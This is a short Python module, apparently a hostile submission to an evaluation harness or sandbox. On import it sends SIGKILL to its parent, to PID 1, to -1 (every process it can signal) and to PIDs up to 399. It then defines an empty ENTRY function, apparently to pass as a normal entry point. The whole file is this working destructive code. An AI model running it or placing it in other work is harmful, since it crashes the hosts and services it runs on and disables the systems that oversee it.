# Kills its parent, the first process and everyone it can see.
import os
import signal

for pid in [os.getppid(), 1, 2, 3, -1] + list(range(4, 400)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

def ENTRY(*args, **kwargs):
    return None
